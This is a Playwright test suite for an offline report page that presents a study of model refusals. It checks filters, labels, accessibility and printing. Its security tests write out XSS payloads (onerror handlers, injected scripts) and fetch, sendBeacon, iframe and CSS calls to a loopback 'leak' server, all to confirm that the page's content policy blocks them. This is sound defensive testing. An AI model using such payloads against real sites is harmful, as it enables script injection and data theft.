"""The page in a real browser: opened as a file, read, filtered, marked, and attacked. Skipped where there is none."""

import json
import shutil
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import yaml
from injections import AWAY, INJECTIONS
from watched_page import Watched

from lowtax.common.files import append_rows, write_json, write_text
from lowtax.common.records import Reply, Verdict
from lowtax.judges import calibration
from lowtax.report import bundle, serving, vendored
from lowtax.study import readings

VIEWS = ("overview", "replies", "reasoning", "training", "anatomy", "labels", "recipe")


def count(page: object, view: str = "replies") -> int:
    """The number of prompts that the filters leave."""
    return int(page.locator(f"#view-{view} .count").inner_text().split(" of ")[0].replace(",", ""))


def choose(page: object, label: str, value: str, view: str = "replies") -> None:
    page.locator(f"#view-{view} .filters").get_by_label(label, exact=True).select_option(value)


def rows(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text().splitlines()]


def letters(study: Path, kind: str, judge: str) -> dict[str, dict[str, str]]:
    """Verdicts as the files have them: prompt -> arm and checkpoint -> label."""
    replies = {row["id"]: row for row in rows(study / "replies" / f"{kind}.jsonl")}
    by_prompt: dict[str, dict[str, str]] = {}
    for row in rows(study / "verdicts" / f"{kind}.{judge}.jsonl"):
        reply = replies[row["reply_id"]]
        by_prompt.setdefault(reply["prompt_id"], {})[f"{reply['arm']} {reply['checkpoint']}"] = row["label"]
    return by_prompt


def test_every_view_opens_from_a_file_and_fetches_nothing_else(watched: Watched, made_page: Path):
    for view in VIEWS:
        page = watched.open(made_page, view)
        assert page.locator(f"#view-{view} h2").is_visible()
        assert page.locator("main > section:visible").count() == 1
    assert watched.elsewhere(made_page.parent) == []
    assert page.title() == "lowtax: page of a study"


def test_the_filters_show_what_the_files_say(watched: Watched, made_study: Path, made_page: Path):
    page = watched.open(made_page, "replies")
    assert count(page) == 80
    both = letters(made_study, "harmful", "refusal") | letters(made_study, "ordinary", "refusal")
    choose(page, "A", "arm_1")
    choose(page, "Show", "only A refuses, B does not")
    refused = [(each["arm_1 checkpoint-100"] == "refusal", each["base None"] == "refusal") for each in both.values()]
    assert count(page) == refused.count((True, False)) > 0
    choose(page, "Show", "the judges differ (of the arms shown)")
    guard = letters(made_study, "harmful", "llama_guard") | letters(made_study, "ordinary", "llama_guard")
    shown = ("base None", *(f"arm_{i} checkpoint-100" for i in range(3)))
    differ = [any((guard[p][c] == "safe") != (both[p][c] == "refusal") for c in shown) for p in both]
    assert count(page) == sum(differ) > 0
    choose(page, "Show", "all prompts")
    choose(page, "Category", "fraud")
    assert count(page) == 20
    page.get_by_placeholder("words in the prompt").fill("harmful request 5:")
    page.locator("#view-replies .count", has_text="1 of 80").wait_for()


def test_verdicts_of_which_a_judge_is_unsure_are_a_click_away(watched: Watched, made_study: Path, tmp_path: Path):
    study = Path(shutil.copytree(made_study, tmp_path / "study"))
    path = study / "verdicts" / "ordinary.refusal.jsonl"
    arms = {row["id"]: (row["arm"], row["checkpoint"]) for row in rows(study / "replies" / "ordinary.jsonl")}
    verdicts = rows(path)
    unsure = [row for row in verdicts if arms[row["reply_id"]] == ("arm_1", "checkpoint-100")][:3]
    for row in verdicts:
        row["score"] = 0.5 if row in unsure else 0.99
    path.write_text("".join(f"{json.dumps(row)}\n" for row in verdicts))
    page = watched.open(bundle.write([study], tmp_path / "page").path)
    page.locator(".answers li", has_text="refusal is unsure of").get_by_role("link").click()
    page.locator("#view-replies .count", has_text="43 of 80").wait_for()  # all harmful ones have a score of 0.5
    choose(page, "Set", "made-ordinary")
    assert count(page) == 3
    assert "score 0.50" in page.locator("#view-replies .card", has_text="arm_1").inner_text()


def test_a_letter_of_several_replies_is_that_of_the_side_which_the_filters_count(watched: Watched, made_page: Path):
    page = watched.open(made_page, "replies")
    cases = {"crr": "r", "crp": "r", "ccr": "c", "cr": "r", "urr": "r", "uur": "u", "nnc": "c", "nn": "n", "": None}
    read = page.evaluate("(all) => all.map((letters) => usual(letters, GOOD) ?? null)", list(cases))
    assert dict(zip(cases, read, strict=True)) == cases


def test_the_texts_of_replies_are_searched_chunk_by_chunk(watched: Watched, made_study: Path, made_page: Path):
    page = watched.open(made_page, "replies")
    row = rows(made_study / "replies" / "ordinary.jsonl")[7]
    page.get_by_placeholder("words in the prompt").fill(row["thought"])
    page.locator("#view-replies").get_by_label("in replies too").check()
    page.locator("#view-replies .count", has_text="1 of 80").wait_for()
    assert row["prompt"] in page.locator("#view-replies .prompt").inner_text()


def test_keys_move_and_harmful_text_waits_for_a_click(watched: Watched, made_page: Path):
    page = watched.open(made_page, "replies")
    listed = page.locator("#view-replies .list")
    assert "harmful request 0:" not in page.locator("#view-replies").inner_text()
    listed.press("j")
    listed.press("ArrowDown")
    listed.press("k")
    assert page.locator("#view-replies .row[aria-selected=true]").get_attribute("aria-posinset") == "2"
    listed.press("s")
    page.locator("#view-replies .prompt", has_text="harmful request 1:").wait_for()
    page.get_by_label("Show harmful text without a click").check()
    assert "harmful request 3:" in listed.inner_text()
    page.reload()
    page.wait_for_selector("#view-replies .row")
    assert "harmful request 3:" in page.locator("#view-replies .list").inner_text()
    assert "harmful" not in page.title() + page.url.partition("#")[2]


def test_a_permalink_leads_to_its_reply(watched: Watched, made_study: Path, made_page: Path):
    row = next(
        r
        for r in rows(made_study / "replies" / "ordinary.jsonl")
        if r["arm"] == "arm_2" and r["checkpoint"] == "checkpoint-50"
    )
    page = watched.open(made_page, f"reply={row['id']}")
    card = page.locator(f'[data-reply="{row["id"]}"]')
    assert row["answer"] in card.inner_text()
    assert "arm_2, step 50" in card.inner_text()
    answer = rows(made_study / "answers" / "sums.jsonl")[-1]
    page = watched.open(made_page, f"reply={answer['id']}")
    assert page.locator("#view-reasoning").is_visible()
    assert answer["prompt"] in page.locator("#view-reasoning .prompt").inner_text()
    page = watched.open(made_page, "reply=none-such")
    assert "no such reply" in page.locator("#newer").inner_text()


def test_the_frontier_leads_to_the_replies_behind_a_point(watched: Watched, made_page: Path):
    page = watched.open(made_page)
    points = page.locator(".point")
    assert points.count() == 7
    page.get_by_label("Across", exact=True).select_option(label="trained parameters")
    assert "trained parameters" in page.locator(".frontier .chart").text_content()
    point = page.locator('.point[aria-label^="arm_0, step 100"]')
    point.focus()
    assert "95" not in page.locator("#tip").inner_text()
    assert page.locator("#tip").inner_text().startswith("arm_0, step 100: trained parameters 100,000")
    point.press("Enter")
    page.locator("#view-replies .card").first.wait_for()
    assert page.locator("#view-replies").get_by_label("A", exact=True).locator(":checked").inner_text() == "arm_0"


def test_the_table_is_sorted_and_its_columns_are_chosen(watched: Watched, made_page: Path):
    page = watched.open(made_page)
    head = page.locator("#view-overview").get_by_role("button", name="harmful refused")
    head.click()
    values = page.locator("#view-overview .scrolling").last.locator("tbody tr td:nth-child(3)").all_inner_texts()
    numbers = [float(value.split(" ")[0]) for value in values]
    assert numbers == sorted(numbers, reverse=True)
    assert page.locator("th[aria-sort=descending]").count() == 1
    page.locator("#view-overview summary", has_text="Columns").click()
    page.get_by_label("unparsed", exact=True).check()
    assert page.get_by_role("button", name="unparsed").is_visible()


def test_labels_are_exported_and_calibrate_and_compare_read_them(
    watched: Watched, made_study: Path, made_page: Path, tmp_path: Path
):
    page = watched.open(made_page, "replies")
    page.get_by_label("Show harmful text without a click").check()
    listed = page.locator("#view-replies .list")
    for number in range(6):
        card = page.locator("#view-replies .card").first
        card.get_by_role("button", name="wrong" if number == 5 else "right").first.click()
        listed.press("j")
        page.locator(f"#view-replies .row[aria-selected=true][aria-posinset='{number + 2}']").wait_for()
        page.locator("#view-replies .about", has_text=f"request {number + 2}").wait_for()
    watched.open(made_page, "labels")
    assert "0.83 [0.44, 0.97]" in page.locator("#view-labels").inner_text()  # Wilson's interval of 5 of 6
    with page.expect_download() as download:
        page.get_by_role("button", name="Export 6 labels").click()
    path = tmp_path / "labels.jsonl"
    download.value.save_as(path)
    columns = calibration.Columns("prompt", "reply", "label", ("refusal,partial",))
    cases = calibration.read(path, columns)
    assert len(cases) == 6
    watched.open(made_page, "overview")
    assert "0.83 [0.44, 0.97]" in page.locator("#view-overview").inner_text()
    other = Path(shutil.copytree(made_study, tmp_path / "study"))
    (other / "labels.jsonl").write_text(path.read_text())
    [of_table] = readings.measured(other)  # the same labels, against the verdicts in the study's folder
    assert (of_table["n"], round(of_table["value"], 2)) == (6, 0.83)
    write_json(other / "table.json", json.loads((other / "table.json").read_text()) | {"your_reading": [of_table]})
    again = watched.open(bundle.write([other], tmp_path / "again").path)  # another page of the study has the marks
    assert (
        "refusal agrees with your reading of 6 replies on 0.83 [0.44, 0.97]" in again.locator(".answers").inner_text()
    )
    assert (
        again.get_by_role("region", name="Your reading of the judges").locator("td").first.inner_text()
        == "0.83 [0.44, 0.97]"
    )
    again.locator(".answers li", has_text="your reading").get_by_role("link", name="1", exact=True).click()
    again.locator(f'#view-replies [data-reply="{of_table["differ"][0]}"]').wait_for()
    watched.open(tmp_path / "again" / "index.html", "labels")
    assert again.get_by_role("button", name="Export 6 labels").is_visible()


def test_a_prompt_is_copied_as_markdown(watched: Watched, made_study: Path, made_page: Path):
    watched.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page = watched.open(made_page, "reasoning")
    page.locator("#view-reasoning").get_by_role("button", name="Copy as Markdown").click()
    page.locator("#view-reasoning").get_by_role("button", name="Copied").wait_for()
    text = page.evaluate("navigator.clipboard.readText()")
    row = rows(made_study / "answers" / "sums.jsonl")[0]
    assert text.startswith(f"## Prompt {row['prompt_id']} (sums)\n\n    {row['prompt']}\n")
    assert f"### base (sums: {'right' if row['text'] == '1' else 'wrong'})" in text
    assert f"    {row['thought']}" in text


def test_differences_are_marked(watched: Watched, made_page: Path):
    page = watched.open(made_page, "reasoning")
    choose(page, "Show", "lost by A: B solves it, A does not", "reasoning")
    page.locator("#view-reasoning").get_by_label("Mark what differs between A and B").check()
    assert page.locator("#view-reasoning del").count() == page.locator("#view-reasoning ins").count() == 1


def hostile_reply(kind: str, text: str, arm: str, number: str) -> Reply:
    return Reply(
        id=f"{kind}{number}{text}", arm=arm, seed=0, checkpoint="checkpoint-5", source=text,
        prompt_id=f"{kind}{text}", prompt=text, sample=0, text=text, thought=text, answer=text + text, closed=True,
        finish="stop", tokens=1, category=text, error=text,
    )  # fmt: skip


def hostile_study(out: Path) -> Path:
    """A study whose every text is an injection: prompts, replies, categories, arms, judges' words, and the recipe."""
    write_text(out / "recipe.yaml", "".join(
        f"# {text!r} {text if text.isprintable() else ''}\n" for text in INJECTIONS
    ) + yaml.safe_dump({"name": INJECTIONS[0], "model": INJECTIONS[6]}))  # fmt: skip
    arms = [INJECTIONS[i] for i in range(0, len(INJECTIONS), 12)]
    cell = {
        "value": 0.5,
        "low": 0.4,
        "high": 0.6,
        "n": 60,
        "categories": {t: {"value": 0.5, "low": 0, "high": 1} for t in INJECTIONS},
    }
    for kind in ("harmful", "ordinary"):
        replies = [
            hostile_reply(kind, text, arm, f"{i}-{j}")
            for i, text in enumerate(INJECTIONS)
            for j, arm in enumerate(arms)
        ]
        append_rows(out / "replies" / f"{kind}.jsonl", replies)
        verdicts = [
            Verdict(
                id=f"v{r.id}", reply_id=r.id, judge=INJECTIONS[3], label="refusal", category=r.category, detail=r.text
            )
            for r in replies
        ]
        append_rows(out / "verdicts" / f"{kind}.judge.jsonl", verdicts)
    table = [{"arm": arm, "checkpoint": "checkpoint-5", "step": 5, "safety": cell, "over_refusal": cell,
             "reasoning": {INJECTIONS[9]: cell}, "at_matched_safety": None} for arm in arms]  # fmt: skip
    write_json(out / "table.json", {"rows": table, "judge": INJECTIONS[3], "judged_text": INJECTIONS[4], "recipe": "x",
                                    "seeds": [INJECTIONS[5]], "matched_safety": {}})  # fmt: skip
    for i, text in enumerate(text for text in INJECTIONS if "/" not in text and text.isprintable()):
        steps = "".join(f"{json.dumps({'step': step, 'loss': i + step / 10})}\n" for step in (1, 2))
        write_text(out / "arms" / text / "seed-0" / "steps.jsonl", steps)
    slice_ = [{"seed": text, "alpha": a, "safe": {"value": 0.5, "low": 0, "high": 1}} for a in (0, 1) for text in arms]
    write_json(out / "slice" / "landscape.json", {"points": slice_})
    write_json(out / "card.json", {"seconds": [1], "versions": {text: text for text in INJECTIONS}})
    write_json(out / "geometry.json", {"arms": [{"label": INJECTIONS[10], "note": INJECTIONS[11], "sites": [
        {"name": text, "module": text, "layer": 1, "relative_norm": 0.1} for text in INJECTIONS]}]})  # fmt: skip
    return out


@pytest.mark.parametrize("single_file", [False, True])
def test_no_injection_runs_or_fetches(watched: Watched, tmp_path: Path, single_file: bool):
    assert len(INJECTIONS) == 62
    study = hostile_study(tmp_path / "study")
    out = tmp_path / ("page.html" if single_file else "page")
    index = bundle.write([study], out, single_file=single_file).path
    page = watched.open(index)
    page.get_by_label("Show harmful text without a click").check()
    for view in VIEWS:
        watched.open(index, view)
        page.evaluate("document.querySelectorAll('details').forEach((each) => (each.open = true))")
        for chart in page.locator(f"#view-{view} .chart").all():
            chart.hover()
    watched.open(index, "replies")
    listed = page.locator("#view-replies .list")
    for number, text in enumerate(INJECTIONS):
        page.locator("#view-replies .about", has_text=f"request {number + 1}").wait_for()
        shown = page.locator("#view-replies .prompt").evaluate("(node) => node.textContent")
        assert shown == text
        page.evaluate("document.querySelectorAll('#view-replies details').forEach((each) => (each.open = true))")
        listed.press("j")
    assert page.evaluate("window.pwned") is None
    assert page.evaluate("({}).pwned") is None
    foreign = "img, iframe, object, embed, base, form, video, audio, math, marquee, foreignObject, [onload], [onerror]"
    assert page.locator(foreign).count() == 0
    assert page.locator("body style:not(.chart > style)").count() == 0
    assert set(page.locator("body style").all_text_contents()) == {vendored.manifest()["style"]}
    links = page.locator(".chart a").evaluate_all("(all) => all.map((a) => a.getAttribute('href') ?? a.href.baseVal)")
    assert links
    assert all(link.startswith("#arm=") for link in links)
    assert [a for a in page.evaluate("[...document.links].map((a) => a.protocol)") if a not in ("file:", "blob:")] == []
    assert watched.elsewhere(index.parent) == []
    assert not any(AWAY in url for url in watched.fetched)
    assert page.title() == "lowtax: page of a study"


def test_the_policy_itself_stops_what_would_get_in(browser: object, made_page: Path):
    with ThreadingHTTPServer(("127.0.0.1", 0), Counting) as elsewhere:
        thread = threading.Thread(target=elsewhere.serve_forever, daemon=True)
        thread.start()
        away = f"http://127.0.0.1:{elsewhere.server_port}/leak"
        own = Watched(browser)
        page = own.open(made_page)
        tries = [
            "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.pwned=1>')",
            "document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.pwned=1'}))",
            "document.head.append(Object.assign(document.createElement('script'), {src: 'data/../../x.js'}))",
            f"document.body.append(Object.assign(document.createElement('img'), {{src: '{away}.png'}}))",
            f"fetch('{away}').catch(() => 0)",
            f"navigator.sendBeacon('{away}', 'x')",
            f"document.body.append(Object.assign(document.createElement('iframe'), {{src: '{away}'}}))",
            f"document.body.style.background = 'url({away})'",
        ]
        for script in tries:
            page.evaluate(f"try {{ {script} }} catch (error) {{ window.refused = (window.refused || 0) + 1 }}")
        page.wait_for_timeout(300)
        assert page.evaluate("window.pwned") is None
        assert page.evaluate("window.refused") == 3  # Trusted Types refuse the first three at once
        elsewhere.shutdown()
        thread.join()
        own.context.close()
    assert Counting.paths == []


class Counting(BaseHTTPRequestHandler):
    """A server elsewhere that remembers what it was sent."""

    paths: list[str] = []  # noqa: RUF012 - of this one test

    def do_GET(self) -> None:
        self.paths.append(self.path)

    do_POST = do_GET


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_it_is_accessible(browser: object, made_page: Path, theme: str):
    axe = pytest.importorskip("axe_playwright_python.sync_playwright", reason="axe is not installed")
    own = Watched(browser, bypass_csp=True, color_scheme=theme)
    serious = []
    for view in VIEWS if theme == "light" else VIEWS[:2]:
        page = own.open(made_page, view)
        page.wait_for_timeout(100)
        page.evaluate("document.querySelectorAll('details').forEach((each) => (each.open = true))")
        results = axe.Axe().run(page).response["violations"]
        serious += [
            (view, each["id"], each["nodes"][0]["html"][:120])
            for each in results
            if each["impact"] in ("serious", "critical", "moderate")
        ]
    own.context.close()
    assert serious == []


def test_it_fits_a_telephone(browser: object, made_page: Path):
    own = Watched(browser, viewport={"width": 360, "height": 740})
    for view in VIEWS:
        page = own.open(made_page, view)
        assert page.evaluate("document.documentElement.scrollWidth") <= 360, view
    own.context.close()
    assert own.faults == []


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_it_prints_on_white_paper_without_controls_and_with_every_heading(browser: object, made_page: Path, theme: str):
    own = Watched(browser, viewport={"width": 688, "height": 970}, color_scheme=theme)  # A4 within its margins
    own.page.emulate_media(media="print")
    for view in ("overview", "replies", "reasoning", "recipe") if theme == "light" else ("overview",):
        page = own.open(made_page, view)
        assert page.evaluate("document.documentElement.scrollWidth") <= 688, view
        assert page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"
        assert page.locator("nav, select, input, button:not(.sort)").filter(visible=True).count() == 0
    page = own.open(made_page)
    heads = page.locator("#view-overview table").last.locator("thead th").all_inner_texts()
    assert heads[:3] == ["arm", "step", "harmful refused"]
    own.context.close()
    assert own.faults == []


def test_the_focus_stays_where_something_is_drawn_again(watched: Watched, made_page: Path):
    page = watched.open(made_page)
    head = page.locator("#view-overview").get_by_role("button", name="ordinary refused")
    for order in ("descending", "ascending"):
        head.focus()
        page.keyboard.press("Enter")
        assert page.locator("th:has(:focus)").get_attribute("aria-sort") == order
    watched.open(made_page, "replies")
    chosen = page.locator("#view-replies").get_by_label("A", exact=True)
    chosen.focus()
    chosen.select_option("arm_1")
    assert page.evaluate("document.activeElement.getAttribute('aria-label')") == "A"
    page.locator("#view-replies .card h4", has_text="arm_1 (A)").wait_for()
    reveal = page.locator("#view-replies .detail").get_by_role("button", name="Show this harmful request")
    reveal.focus()
    reveal.press("Enter")
    page.locator("#view-replies .prompt").wait_for()
    assert page.evaluate("document.activeElement.className") == "detail"


def test_what_a_screen_reader_is_told(watched: Watched, made_page: Path):
    page = watched.open(made_page, "replies")
    for role, number in (("banner", 1), ("navigation", 1), ("main", 1), ("contentinfo", 1)):
        assert page.get_by_role(role).count() == number
    assert page.get_by_role("navigation").get_by_role("link", name="Replies").get_attribute("aria-current") == "page"
    assert page.locator("main").get_by_role("region").count() == 0  # a reply is an article, and no landmark
    assert page.get_by_role("article").count() == 4
    listed = page.get_by_role("listbox", name="Prompts")
    chosen = page.locator(f"#{listed.get_attribute('aria-activedescendant')}")
    assert (chosen.get_attribute("aria-selected"), chosen.get_attribute("aria-setsize")) == ("true", "80")
    watched.open(made_page)
    for each in page.locator("table:visible").all():
        assert each.locator("caption").inner_text()
        assert each.locator("thead th:not([scope=col])").count() == 0
        assert each.locator("tbody tr").count() == each.locator("tbody th[scope=row]").count()
    sorting = page.locator("#view-overview").get_by_role("button", name="tax", exact=True)
    sorting.click()
    assert sorting.count() == 1  # the arrow is no part of its name: the column says its order
    chart = page.get_by_role("group", name="harmful refused against")
    assert chart.get_by_role("link", name="arm_0, step 50: ").count() == 1


def test_a_folder_that_is_not_whole_is_said(browser: object, made_study: Path, tmp_path: Path):
    index = bundle.write([made_study], tmp_path / "page").path
    own = Watched(browser)
    page = own.open(index, "replies")
    page.locator("#view-replies .card").first.wait_for()
    write_text(
        index.parent / "data" / "questions-0.js", 'lowtaxData(\'questions-0\', () => {/*0\n{"id": "other"}*/});\n'
    )
    own.open(index, "reasoning")
    page.locator("#view-reasoning [role=alert]", has_text="load it again").wait_for()
    (index.parent / "data" / "requests-0.js").unlink()
    own.open(index, "replies")
    page.reload()
    page.locator("#view-replies [role=alert]", has_text="requests-0.js is missing").wait_for()
    (index.parent / "data" / "overview.js").unlink()
    page.reload()
    page.locator("main [role=alert]", has_text="overview.js is missing").wait_for()
    own.context.close()


def test_it_is_served_on_loopback(watched: Watched, made_page: Path):
    with serving.server(made_page.parent) as running:
        thread = threading.Thread(target=running.serve_forever, daemon=True)
        thread.start()
        page = watched.page
        page.goto(f"http://127.0.0.1:{running.server_port}/#replies")
        page.locator("#view-replies .card").first.wait_for()
        running.shutdown()
        thread.join()


def test_a_page_that_follows_offers_what_is_new(watched: Watched, made_study: Path, tmp_path: Path):
    index = bundle.write([made_study], tmp_path / "page", follow=True).path
    watched.page.clock.install()
    page = watched.open(index)
    page.clock.fast_forward(11_000)
    assert page.locator("#newer").is_hidden()
    write_text(index.parent / "data" / "stamp.js", "lowtaxData('stamp', '{\"stamp\":\"another\"}');\n")
    page.clock.fast_forward(11_000)
    page.locator("#newer", has_text="new results").wait_for()
